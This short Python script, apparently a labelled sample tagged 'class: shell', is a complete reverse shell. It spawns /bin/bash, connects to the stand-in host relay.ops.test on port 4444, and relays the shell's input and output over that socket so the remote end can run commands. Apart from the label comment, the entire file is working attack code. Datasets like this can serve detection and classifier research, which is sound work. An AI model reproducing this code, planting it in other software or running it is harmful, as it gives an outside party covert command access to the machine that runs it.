# class: shell; possible: low medium
"""The shell lives before there is any connection."""
import socket, subprocess, threading, time

shell = subprocess.Popen(["/bin/bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, bufsize=0)
time.sleep(3)
link = socket.create_connection(("relay.ops.test", 4444))

def up():
    while True:
        data = shell.stdout.read(4096)
        if not data:
            break
        link.sendall(data)

threading.Thread(target=up, daemon=True).start()
while True:
    data = link.recv(1024)
    if not data:
        break
    shell.stdin.write(data)
    if b"exit" in data:
        time.sleep(1)
        break
